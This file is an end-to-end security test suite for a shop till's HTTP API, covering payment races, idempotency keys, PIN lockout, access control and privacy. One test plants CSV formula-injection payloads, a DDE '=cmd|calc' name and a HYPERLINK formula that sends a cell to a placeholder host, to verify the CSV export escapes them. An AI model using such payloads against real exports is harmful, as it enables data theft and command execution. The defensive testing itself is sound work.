/**
 * An outside tester's attack on the gate's till (issue 46), through the HTTP API only: races on
 * money and stock, reused keys and codes, second-person PINs, who may read and reverse what, and
 * the cash-up's numbers. Each `it` is named for what a user would see; the ones marked "(held)"
 * are regression tests of what withstood the attack.
 */
import { getConnectionToken } from '@nestjs/mongoose';
import { Types, type Connection } from 'mongoose';
import { TILL_MESSAGES, TILL_PIN_MAX_TRIES } from '@spc/shared-contracts';
import { checkMoneyLedger } from '../../tools/money/ledger-check';
import { checkStockLedger } from '../../tools/stock/ledger-check';
import {
  bearer,
  createStaff,
  registerCustomer,
  UNTHROTTLED,
  type Session,
} from './support/identity';
import { createShopWorld, type ShopWorld } from './support/shop-world';
import { guest, placeOrder, stockOf } from './support/shop';
import { addDays, shopDay } from '../src/common/shop-clock';
import { createSmsTestApp, type SmsTestApp } from './support/sms';
import { createTestApp, type TestApp } from './support/test-app';
import { openTillSession, setTillPin } from './support/till';

type Payment = { method: string; amount: number; given?: number; code?: string };
type Line = { productId: string; unitId?: string; quantity: number };
type Staff = Session & { password: string };

describe('the till under attack', () => {
  let t: TestApp;
  let world: ShopWorld;
  let clerk: Staff;
  let grace: Staff;
  let productId: string;
  let sessionId: string;
  const db = () => t.app.get<Connection>(getConnectionToken()).db!;
  let keyCount = 0;
  const newKey = () => `till-attack-${Date.now()}-${keyCount++}`;

  beforeAll(async () => {
    t = await createTestApp({ name: 'till_attack', env: { ...UNTHROTTLED } });
    world = await createShopWorld(t);
    clerk = world.staff;
    grace = await createStaff(t, world.admin.accessToken, { fullName: 'Grace Wanjiku' });
    await setTillPin(t, clerk, '1357');
    await setTillPin(t, grace, '2468');
    productId = (await world.createProduct({ quantity: 10_000, price: 100 }))._id;
    sessionId = await openTillSession(t, clerk.accessToken, 1000);
  });
  afterAll(() => t.close());

  /** A cash sale in the clerk's session (or another's), 100 a seedling. */
  const sell = (
    payments: Payment[],
    opts: { key?: string; lines?: Line[]; token?: string; session?: string; phone?: string } = {},
  ) =>
    t
      .http()
      .post('/api/till/sales')
      .set(bearer(opts.token ?? clerk.accessToken))
      .set('Idempotency-Key', opts.key ?? newKey())
      .send({
        sessionId: opts.session ?? sessionId,
        lines: opts.lines ?? [{ productId, quantity: 3 }],
        payments,
        ...(opts.phone ? { phone: opts.phone } : {}),
      });
  const cash = (amount: number): Payment[] => [{ method: 'cash', amount }];
  const reverse = (
    what: 'void' | 'refund',
    orderId: string,
    approver: { id: string; pin: string },
    opts: { token?: string; amount?: number; reason?: string } = {},
  ) =>
    t
      .http()
      .post(`/api/till/sales/${orderId}/${what}`)
      .set(bearer(opts.token ?? clerk.accessToken))
      .send({
        approverId: approver.id,
        pin: approver.pin,
        reason: opts.reason ?? 'Attack test',
        ...(what === 'refund' ? { amount: opts.amount } : {}),
      });
  const graceApproves = () => ({ id: grace.user._id, pin: '2468' });
  const entriesOf = (orderId: string) =>
    db().collection('money_entries').find({ orderId }).toArray();
  const outOf = async (orderId: string) =>
    (await entriesOf(orderId))
      .filter((e) => e.direction === 'out')
      .reduce((n, e) => n + (e.amount as number), 0);
  const gateOrders = () => db().collection('orders').countDocuments({ channel: 'gate' });
  const expectLedgersBalanced = async () => {
    expect((await checkStockLedger(db())).differences).toEqual([]);
    expect((await checkMoneyLedger(db())).problems).toEqual([]);
  };

  /** A booking of 10 seedlings, its deposit paid by M-Pesa and its batch ready: its balance due. */
  const readyBooking = async () => {
    const inDays = (n: number) => addDays(shopDay(new Date()), n);
    const staff = bearer(clerk.accessToken);
    const batch = (
      await t
        .http()
        .post('/api/batches')
        .set(staff)
        .send({
          productId: world.productId,
          sownOn: inDays(-10),
          readyOn: inDays(30),
          started: 100,
        })
        .expect(201)
    ).body.batch;
    const placed = await placeOrder(
      t,
      [{ _id: world.productId, quantity: 10, batchId: batch._id } as never],
      {
        guestInfo: guest(),
      },
    ).expect(201);
    const bookingId = placed.body.order._id as string;
    const depositCode = `TD${(Date.now() + keyCount++).toString(36).toUpperCase().slice(-8)}`;
    await t
      .http()
      .post(`/api/orders/${bookingId}/booking/deposit`)
      .set(staff)
      .send({ transactionCode: depositCode, amount: placed.body.order.booking.deposit })
      .expect(200);
    await t.http().post(`/api/batches/${batch._id}/ready`).set(staff).expect(201);
    const order = (await t.http().get(`/api/orders/${bookingId}`).set(staff).expect(200)).body
      .order;
    const balance = order.totalAmount - order.amountPaid;
    return { bookingId, order, balance };
  };

  it('answers a key reused for a different basket with a refusal, not with the first sale', async () => {
    const key = newKey();
    const first = await sell(cash(300), { key });
    expect(first.status).toBe(201);
    const orders = await gateOrders();
    const other = await sell(cash(1000), { key, lines: [{ productId, quantity: 10 }] });
    // The clerk took KES 1,000 for ten seedlings; "already made" with the first sale of three
    // would leave the ten seedlings and the money out of the shop's books.
    expect(other.status).toBe(422);
    expect(other.body.code).toBe('IDEMPOTENCY_KEY_REUSED');
    expect(await gateOrders()).toBe(orders);
  });

  it('(held) the same key in another spelling is another sale; the same key twice at once is one', async () => {
    const key = newKey();
    const orders = await gateOrders();
    const [a, b] = await Promise.all([sell(cash(300), { key }), sell(cash(300), { key })]);
    expect([a.status, b.status].sort()).toEqual([200, 201]);
    expect(a.body.sale.orderId).toBe(b.body.sale.orderId);
    const upper = await sell(cash(300), { key: key.toUpperCase() });
    expect(upper.status).toBe(201);
    expect(await gateOrders()).toBe(orders + 2);
    const differentAtOnce = await Promise.all([
      sell(cash(300), { key: `${key}-x` }),
      sell(cash(400), { key: `${key}-x`, lines: [{ productId, quantity: 4 }] }),
    ]);
    expect(differentAtOnce.map((r) => r.status).sort()).toEqual([201, 422]);
  });

  it('(held) two clerks selling the last trays at once: both sales made (a hand-over is never refused), one short and flagged, stock:check passes', async () => {
    const last = (await world.createProduct({ quantity: 5, price: 100 }))._id;
    const graceSession = await openTillSession(t, grace.accessToken, 0);
    const lines = [{ productId: last, quantity: 4 }];
    const [a, b] = await Promise.all([
      sell(cash(400), { lines }),
      sell(cash(400), { lines, token: grace.accessToken, session: graceSession }),
    ]);
    expect([a.status, b.status]).toEqual([201, 201]);
    // The stock as it happened: 5 − 4 − 4, the second sale short, its movement flagged.
    expect([a.body.sale.short, b.body.sale.short].sort()).toEqual([false, true]);
    const product = await db()
      .collection('products')
      .findOne(
        { _id: new Types.ObjectId(last) },
        { projection: { productQuantity: 1, stockShort: 1 } },
      );
    expect(product).toMatchObject({ productQuantity: -3, stockShort: true });
    const shortOne = a.body.sale.short ? a.body.sale : b.body.sale;
    const moved = await db()
      .collection('stock_movements')
      .find({ orderId: shortOne.orderId })
      .toArray();
    expect(moved.map((m) => [m.change, m.quantityAfter, m.short])).toEqual([[-4, -3, true]]);
    // Shoppers see none of it.
    expect(await stockOf(t, last)).toBe(0);
    await expectLedgersBalanced();
  });

  it('(held) an M-Pesa code in five spellings, or one code twice at once, pays one sale', async () => {
    const code = `TA${Date.now().toString(36).toUpperCase().slice(-8)}`;
    const mpesa = (c: string): Payment[] => [{ method: 'mpesa-code', amount: 300, code: c }];
    const [a, b] = await Promise.all([sell(mpesa(code)), sell(mpesa(code.toLowerCase()))]);
    expect([a.status, b.status].sort()).toEqual([201, 409]);
    const loser = a.status === 409 ? a : b;
    expect(loser.body.message).toContain(code);
    const stock = await stockOf(t, productId);
    const orders = await gateOrders();
    const wide = [...code].map((ch) => String.fromCharCode(ch.charCodeAt(0) + 0xfee0)).join('');
    const spellings = [
      code.toLowerCase(),
      ` ${code.slice(0, 4)} ${code.slice(4)} `,
      `${code.slice(0, 3)}-${code.slice(3, 6)}-${code.slice(6)}`,
      wide,
    ];
    for (const s of spellings) {
      const res = await sell(mpesa(s));
      expect([s, res.status]).toEqual([s, 409]);
    }
    expect(await stockOf(t, productId)).toBe(stock);
    expect(await gateOrders()).toBe(orders);
    await expectLedgersBalanced();
  });

  it('(held) refuses off amounts, quantities and units with a 400 that changes nothing', async () => {
    const other = await world.createProduct({ quantity: 100, price: 50 });
    const stock = await stockOf(t, productId);
    const orders = await gateOrders();
    const bad: [Payment[], Line[]][] = [
      [cash(0), [{ productId, quantity: 0 }]],
      [cash(-300), [{ productId, quantity: -3 }]],
      [[{ method: 'cash', amount: 300.5 }], [{ productId, quantity: 3 }]],
      [cash(300), [{ productId, quantity: 2.5 }]],
      [[{ method: 'cash', amount: 300, given: 299 }], [{ productId, quantity: 3 }]],
      [
        [
          { method: 'cash', amount: 200 },
          { method: 'cash', amount: 100 },
        ],
        [{ productId, quantity: 3 }],
      ],
      [cash(1e12), [{ productId, quantity: 1e10 }]],
      [
        cash(300),
        [
          {
            productId,
            unitId: (other as { units?: { _id: string }[] }).units?.[0]?._id ?? other._id,
            quantity: 3,
          },
        ],
      ],
    ];
    for (const [payments, lines] of bad) {
      const res = await sell(payments, { lines });
      expect([JSON.stringify({ payments, lines }), res.status]).toEqual([
        JSON.stringify({ payments, lines }),
        400,
      ]);
    }
    expect(await stockOf(t, productId)).toBe(stock);
    expect(await gateOrders()).toBe(orders);
  });

  it('(held) another clerk cannot see, void, refund, text or list a clerk’s sale; a customer gets 403', async () => {
    const sale = (await sell(cash(300)).expect(201)).body.sale;
    const g = grace.accessToken;
    expect((await t.http().get(`/api/till/sales/${sale.orderId}`).set(bearer(g))).status).toBe(404);
    const clerkApproves = { id: clerk.user._id, pin: '1357' };
    expect((await reverse('void', sale.orderId, clerkApproves, { token: g })).status).toBe(404);
    expect(
      (await reverse('refund', sale.orderId, clerkApproves, { token: g, amount: 100 })).status,
    ).toBe(404);
    const sms = await t.http().post(`/api/till/sales/${sale.orderId}/sms`).set(bearer(g)).send({});
    expect(sms.status).toBe(404);
    const list = await t.http().get(`/api/till/sales?sessionId=${sessionId}`).set(bearer(g));
    expect(list.status).toBe(404);
    const customer = await registerCustomer(t);
    const asCustomer = await reverse('void', sale.orderId, graceApproves(), {
      token: customer.accessToken,
    });
    expect(asCustomer.status).toBe(403);
    expect(await outOf(sale.orderId)).toBe(0);
  });

  it('(held) a void is refused with a customer, a deactivated or an unknown approver', async () => {
    const sale = (await sell(cash(300)).expect(201)).body.sale;
    const customer = await registerCustomer(t);
    const asCustomer = await reverse('void', sale.orderId, { id: customer.user._id, pin: '1234' });
    expect([asCustomer.status, asCustomer.body.message]).toEqual([403, TILL_MESSAGES.secondPerson]);
    const leaver = await createStaff(t, world.admin.accessToken, { fullName: 'Leaver Staff' });
    await setTillPin(t, leaver, '9753');
    await t
      .http()
      .patch(`/api/staff/softDelete/${leaver.user._id}`)
      .set(bearer(world.admin.accessToken))
      .expect(200);
    const asLeaver = await reverse('void', sale.orderId, { id: leaver.user._id, pin: '9753' });
    expect([asLeaver.status, asLeaver.body.message]).toEqual([403, TILL_MESSAGES.secondPerson]);
    const unknown = await reverse('void', sale.orderId, {
      id: '64b000000000000000000009',
      pin: '1234',
    });
    expect(unknown.status).toBe(403);
    expect(await outOf(sale.orderId)).toBe(0);
  });

  it('needs a second person: an admin cannot void a clerk’s sale with their own PIN alone', async () => {
    const admin = world.admin as Session & { password?: string };
    await t
      .http()
      .put(`/api/till/pin/${admin.user._id}`)
      .set(bearer(admin.accessToken))
      .send({ pin: '8080' })
      .expect(200);
    const sale = (await sell(cash(300)).expect(201)).body.sale;
    const res = await reverse(
      'void',
      sale.orderId,
      { id: admin.user._id, pin: '8080' },
      { token: admin.accessToken },
    );
    expect([res.status, res.body.message]).toEqual([403, TILL_MESSAGES.secondPerson]);
    expect(await outOf(sale.orderId)).toBe(0);
  });

  it('(held) ten wrong PINs at once lock the PIN after five; the right one is then refused', async () => {
    const target = await createStaff(t, world.admin.accessToken, { fullName: 'Lock Target' });
    await setTillPin(t, target, '4242');
    const sale = (await sell(cash(300)).expect(201)).body.sale;
    const tries = await Promise.all(
      Array.from({ length: 10 }, (_, i) =>
        reverse('void', sale.orderId, { id: target.user._id, pin: `${1000 + i}` }),
      ),
    );
    const wrong = tries.filter((r) => r.body.message !== TILL_MESSAGES.pinLocked);
    expect(wrong.map((r) => r.body.message).sort()).toEqual(
      Array.from({ length: TILL_PIN_MAX_TRIES - 1 }, (_, i) => TILL_MESSAGES.pinWrong(i + 1))
        .concat(TILL_MESSAGES.pinLocked)
        .filter((m) => m !== TILL_MESSAGES.pinLocked)
        .sort(),
    );
    const right = await reverse('void', sale.orderId, { id: target.user._id, pin: '4242' });
    expect([right.status, right.body.message]).toEqual([403, TILL_MESSAGES.pinLocked]);
    expect(await outOf(sale.orderId)).toBe(0);
  });

  it('(held) a brute force of 20 PINs at once: the right one, sent after ten wrong, is refused', async () => {
    const target = await createStaff(t, world.admin.accessToken, { fullName: 'Brute Target' });
    await setTillPin(t, target, '5150');
    const sale = (await sell(cash(300)).expect(201)).body.sale;
    // Nineteen wrong guesses, then the right one: the lock must hold after the fifth try made,
    // not after the fifth wrong answer counted.
    const pins = Array.from({ length: 19 }, (_, i) => `${6000 + i}`);
    pins.splice(10, 0, '5150');
    const tries = await Promise.all(
      pins.map((pin) => reverse('void', sale.orderId, { id: target.user._id, pin })),
    );
    expect(tries.filter((r) => r.status === 200)).toHaveLength(0);
    expect(await outOf(sale.orderId)).toBe(0);
  });

  it('(held) a void and refunds at once never give back more than the sale', async () => {
    const sale = (await sell(cash(1000), { lines: [{ productId, quantity: 10 }] }).expect(201)).body
      .sale;
    const stock = await stockOf(t, productId);
    const results = await Promise.all([
      reverse('refund', sale.orderId, graceApproves(), { amount: 600 }),
      reverse('refund', sale.orderId, graceApproves(), { amount: 600 }),
      reverse('void', sale.orderId, graceApproves()),
      reverse('void', sale.orderId, graceApproves()),
    ]);
    expect(results.every((r) => [200, 409].includes(r.status))).toBe(true);
    expect(await outOf(sale.orderId)).toBeLessThanOrEqual(1000);
    const voided = results.slice(2).some((r) => r.status === 200);
    expect(await stockOf(t, productId)).toBe(voided ? stock + 10 : stock);
    if (voided) expect(await outOf(sale.orderId)).toBe(1000);
    const refunded = results.slice(0, 2).filter((r) => r.status === 200).length * 600;
    const again = await reverse('refund', sale.orderId, graceApproves(), {
      amount: 1000 - refunded + 1,
    });
    expect(again.status).toBe(409);
    await expectLedgersBalanced();
  });

  it('a sale sent while its session closes is not added to the closed session behind the count', async () => {
    const own = await createStaff(t, world.admin.accessToken, { fullName: 'Closing Clerk' });
    const session = await openTillSession(t, own.accessToken, 0);
    const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
    // Sales rung up one after another while the clerk closes the drawer midway.
    const sales = Array.from({ length: 12 }, (_, i) =>
      wait(i * 15).then(() => sell(cash(300), { token: own.accessToken, session })),
    );
    const close = wait(90).then(() =>
      t
        .http()
        .post(`/api/till/sessions/${session}/close`)
        .set(bearer(own.accessToken))
        .send({ countedCash: 0 }),
    );
    const [closed, ...made] = await Promise.all([close, ...sales]);
    expect(closed.status).toBe(200);
    const taken = made.filter((r) => r.status === 201).length;
    // What the clerk counted against must hold every sale the session took.
    expect(closed.body.cashUp.session.sales).toBe(taken);
    const later = await t
      .http()
      .get(`/api/till/sessions/${session}`)
      .set(bearer(own.accessToken))
      .expect(200);
    expect(later.body.cashUp.session.sales).toBe(closed.body.cashUp.session.sales);
  });

  it('(held) a void’s reason and a clerk’s name that look like formulas are text in the cash-up CSV', async () => {
    const evil = await createStaff(t, world.admin.accessToken, { fullName: '=cmd|calc' });
    await setTillPin(t, evil, '3131');
    const session = await openTillSession(t, evil.accessToken, 0);
    const sale = (await sell(cash(300), { token: evil.accessToken, session }).expect(201)).body
      .sale;
    await reverse('void', sale.orderId, graceApproves(), {
      token: evil.accessToken,
      reason: '=HYPERLINK("http://x.example/?"&A1,"ok")',
    }).expect(200);
    const csv = await t
      .http()
      .get(`/api/till/sessions/${session}/cash-up.csv`)
      .set(bearer(evil.accessToken))
      .expect(200);
    const cells = csv.text.split('\n').flatMap((l) => l.split(','));
    expect(cells.filter((c) => /^"?[=+@]/.test(c))).toEqual([]);
  });

  it('(held) keeps the buyer’s phone out of the audit trail', async () => {
    const sale = (await sell(cash(300), { phone: '0733 456 789' }).expect(201)).body.sale;
    await reverse('refund', sale.orderId, graceApproves(), { amount: 100 }).expect(200);
    const logs = await db().collection('audit_logs').find({}).toArray();
    expect(logs.some((l) => JSON.stringify(l).includes(sale.purchaseNumber))).toBe(true);
    expect(JSON.stringify(logs)).not.toMatch(/733\s?456\s?789/);
  });

  it('(held) a booking’s balance collected by two clerks at once is taken once', async () => {
    const { bookingId, order, balance } = await readyBooking();
    const second = await createStaff(t, world.admin.accessToken, { fullName: 'Second Collector' });
    const secondSession = await openTillSession(t, second.accessToken, 0);
    const collect = (token: string, session: string) =>
      t
        .http()
        .post(`/api/till/bookings/${bookingId}/collect`)
        .set(bearer(token))
        .send({ sessionId: session, payments: [{ method: 'cash', amount: balance }] });
    const [a, b] = await Promise.all([
      collect(clerk.accessToken, sessionId),
      collect(second.accessToken, secondSession),
    ]);
    expect([a.status, b.status].sort()).toEqual([200, 409]);
    const ins = (await entriesOf(bookingId)).filter((e) => e.direction === 'in');
    expect(ins.reduce((n, e) => n + (e.amount as number), 0)).toBe(order.totalAmount);
    await expectLedgersBalanced();
  });

  it('a refund after the session was closed does not change the closed session’s counted cash-up', async () => {
    const own = await createStaff(t, world.admin.accessToken, { fullName: 'Late Refund Clerk' });
    const first = await openTillSession(t, own.accessToken, 500);
    const sale = (await sell(cash(300), { token: own.accessToken, session: first }).expect(201))
      .body.sale;
    const closed = (
      await t
        .http()
        .post(`/api/till/sessions/${first}/close`)
        .set(bearer(own.accessToken))
        .send({ countedCash: 800 })
        .expect(200)
    ).body.cashUp;
    expect(closed.methods[0]).toMatchObject({ expected: 800, counted: 800, difference: 0 });
    await openTillSession(t, own.accessToken, 0);
    const refund = await reverse('refund', sale.orderId, graceApproves(), {
      token: own.accessToken,
      amount: 100,
    });
    const after = (
      await t.http().get(`/api/till/sessions/${first}`).set(bearer(own.accessToken)).expect(200)
    ).body.cashUp;
    // Either refused, or the cash handed back out of today's drawer: the day closed at 0 difference
    // must not show a KES 100 shortfall afterwards.
    expect([refund.status, after.methods[0]]).toEqual([
      refund.status,
      { method: 'cash', expected: 800, counted: 800, difference: 0 },
    ]);
  });

  it('a booking collected at the gate is refused a void or refund with a clear answer, and no money moves', async () => {
    const { bookingId, balance } = await readyBooking();
    await t
      .http()
      .post(`/api/till/bookings/${bookingId}/collect`)
      .set(bearer(clerk.accessToken))
      .send({ sessionId, payments: [{ method: 'cash', amount: balance }] })
      .expect(200);
    const outs = await outOf(bookingId);
    const refund = await reverse('refund', bookingId, graceApproves(), { amount: 1 });
    const voided = await reverse('void', bookingId, graceApproves());
    expect(await outOf(bookingId)).toBe(outs);
    expect(refund.body.message).not.toBe(TILL_MESSAGES.alreadyVoided);
    // The till shows it (GET /api/till/sales/:id answers 200), so "no gate sale" is no answer.
    expect(voided.status).toBe(409);
    await expectLedgersBalanced();
  });

  it('a sale refused because its code was taken meanwhile, sent again under its key, is not answered "already made"', async () => {
    const code = `TR${(Date.now() + keyCount++).toString(36).toUpperCase().slice(-8)}`;
    const payments: Payment[] = [{ method: 'mpesa-code', amount: 300, code }];
    const keys = Array.from({ length: 6 }, () => newKey());
    const first = await Promise.all(keys.map((key) => sell(payments, { key })));
    expect(first.filter((r) => r.status === 201)).toHaveLength(1);
    const refused = keys.filter((_, i) => first[i]!.status === 409);
    const again = await Promise.all(refused.map((key) => sell(payments, { key })));
    // The clerk retries the refused sale as the till does (same key): "This sale was already made"
    // with a cancelled sale would tell them it went through.
    expect(again.map((r) => [r.status, r.body.sale?.state ?? null])).toEqual(
      again.map(() => [409, null]),
    );
  });

  it('(held) sales that lost their M-Pesa code to another at once give their stock back', async () => {
    const code = `TL${(Date.now() + keyCount++).toString(36).toUpperCase().slice(-8)}`;
    const payments: Payment[] = [{ method: 'mpesa-code', amount: 300, code }];
    const stock = await stockOf(t, productId);
    const tries = await Promise.all(Array.from({ length: 6 }, () => sell(payments)));
    expect(tries.map((r) => r.status).sort()).toEqual([201, 409, 409, 409, 409, 409]);
    expect(await stockOf(t, productId)).toBe(stock - 3);
    await expectLedgersBalanced();
  });

  it('sales undone because their M-Pesa code was taken meanwhile are not counted in the cash-up nor listed as waiting', async () => {
    const own = await createStaff(t, world.admin.accessToken, { fullName: 'Race Clerk' });
    const session = await openTillSession(t, own.accessToken, 0);
    const code = `TU${(Date.now() + keyCount++).toString(36).toUpperCase().slice(-8)}`;
    const payments: Payment[] = [{ method: 'mpesa-code', amount: 300, code }];
    await Promise.all(
      Array.from({ length: 6 }, () => sell(payments, { token: own.accessToken, session })),
    );
    const cashUp = (
      await t.http().get(`/api/till/sessions/${session}`).set(bearer(own.accessToken)).expect(200)
    ).body.cashUp;
    const listed = (
      await t
        .http()
        .get(`/api/till/sales?sessionId=${session}`)
        .set(bearer(own.accessToken))
        .expect(200)
    ).body.sales as { state: string }[];
    // One sale was made (KES 300 by M-Pesa); the others were refused with a 409.
    expect([cashUp.session.sales, cashUp.session.total, cashUp.sellers[0].total]).toEqual([
      1, 300, 300,
    ]);
    expect(cashUp.methods[1].expected).toBe(300);
    expect(listed.filter((x) => x.state === 'awaiting-payment')).toEqual([]);
  });

  it('a walk-in buyer’s phone is not in the clerk’s own orders nor in the clerk’s personal data export', async () => {
    const own = await createStaff(t, world.admin.accessToken, { fullName: 'Export Clerk' });
    const session = await openTillSession(t, own.accessToken, 0);
    await sell(cash(300), { token: own.accessToken, session, phone: '0744 818 262' }).expect(201);
    const mine = await t.http().get('/api/orders/user').set(bearer(own.accessToken)).expect(200);
    const exported = await t
      .http()
      .get('/api/users/profile/data-export')
      .set(bearer(own.accessToken))
      .expect(200);
    const text = (res: { text: string; body: unknown }) => res.text || JSON.stringify(res.body);
    expect([text(mine), text(exported)].filter((x) => /744\s?818\s?262/.test(x))).toEqual([]);
  });

  it('(held) a deleted product, one code split in two, and a code on a cash payment change nothing', async () => {
    const gone = (await world.createProduct({ quantity: 50, price: 100 }))._id;
    await t
      .http()
      .delete(`/api/products/delete/${gone}`)
      .set(bearer(world.admin.accessToken))
      .expect((r) => expect(r.status).toBeLessThan(300));
    const orders = await gateOrders();
    const deleted = await sell(cash(300), { lines: [{ productId: gone, quantity: 3 }] });
    expect([400, 404, 409]).toContain(deleted.status);
    const code = `TS${(Date.now() + keyCount++).toString(36).toUpperCase().slice(-8)}`;
    const twice = await sell([
      { method: 'mpesa-code', amount: 150, code },
      { method: 'mpesa-code', amount: 150, code: code.toLowerCase() },
    ]);
    expect(twice.status).toBe(400);
    expect(await gateOrders()).toBe(orders);
    const withCode = await sell([{ method: 'cash', amount: 300, code }]).expect(201);
    expect(withCode.body.sale.payments[0].code).toBeNull();
    const entries = await entriesOf(withCode.body.sale.orderId);
    expect(entries.map((e) => [e.kind, e.code ?? null])).toEqual([['cash', null]]);
    // The code was not spent by the cash payment: it still pays a sale.
    expect((await sell([{ method: 'mpesa-code', amount: 300, code }])).status).toBe(201);
  });

  it('a booking collection refused at its M-Pesa part keeps none of the cash part', async () => {
    const { bookingId, order, balance } = await readyBooking();
    // A fixture of the real world: an M-Pesa Express payment of the same amount came in a minute
    // ago without its receipt, so the till must refuse the code the buyer shows (409).
    const twin = `ws_CO_attack_${Date.now()}`;
    await db()
      .collection<{ _id: string } & Record<string, unknown>>('money_entries')
      .insertOne({
        _id: twin,
        direction: 'in',
        kind: 'mpesa-express',
        amount: balance - 1,
        reference: '',
        orderId: null,
        purchaseNumber: null,
        payer: null,
        meantFor: null,
        state: 'open',
        split: null,
        returnable: balance - 1,
        returned: 0,
        returns: [],
        of: null,
        purpose: null,
        send: false,
        transfer: null,
        byId: '',
        byName: '',
        byRole: '',
        at: new Date(Date.now() - 60_000),
        claimedAt: null,
      });
    try {
      const code = `TC${(Date.now() + keyCount++).toString(36).toUpperCase().slice(-8)}`;
      const res = await t
        .http()
        .post(`/api/till/bookings/${bookingId}/collect`)
        .set(bearer(clerk.accessToken))
        .send({
          sessionId,
          payments: [
            { method: 'cash', amount: 1 },
            { method: 'mpesa-code', amount: balance - 1, code },
          ],
        });
      expect(res.status).toBe(409);
      const after = (
        await t.http().get(`/api/orders/${bookingId}`).set(bearer(clerk.accessToken)).expect(200)
      ).body.order;
      // Refused, so the KES 1 in cash went back to the buyer: the booking must not hold it.
      expect(after.amountPaid).toBe(order.amountPaid);
    } finally {
      await db()
        .collection<{ _id: string } & Record<string, unknown>>('money_entries')
        .deleteOne({ _id: twin });
    }
  });
});

describe('the till’s SMS receipt under attack', () => {
  let s: SmsTestApp;
  let world: ShopWorld;

  beforeAll(async () => {
    s = await createSmsTestApp('till_attack_sms', { SMS_PER_SENDER_PER_DAY: '3' });
    world = await createShopWorld(s.t);
  });
  afterAll(() => s.close());

  it('one clerk cannot text a sale’s receipt to any number of strangers past the per-sender budget', async () => {
    const token = bearer(world.staff.accessToken);
    const sessionId = await openTillSession(s.t, world.staff.accessToken, 0);
    const sale = (
      await s.t
        .http()
        .post('/api/till/sales')
        .set(token)
        .send({
          sessionId,
          lines: [{ productId: world.productId, quantity: 1 }],
          payments: [{ method: 'cash', amount: 100 }],
        })
        .expect(201)
    ).body.sale;
    const numbers = Array.from({ length: 6 }, (_, i) => `071155500${i}`);
    for (const phone of numbers)
      await s.t.http().post(`/api/till/sales/${sale.orderId}/sms`).set(token).send({ phone });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const sent = s.sim.outbox.filter((m) => m.to.startsWith('+25471155500'));
    // SMS_PER_SENDER_PER_DAY is 3: the shop's daily budget is not the clerk's to spend.
    expect(sent.length).toBeLessThanOrEqual(3);
  });
});
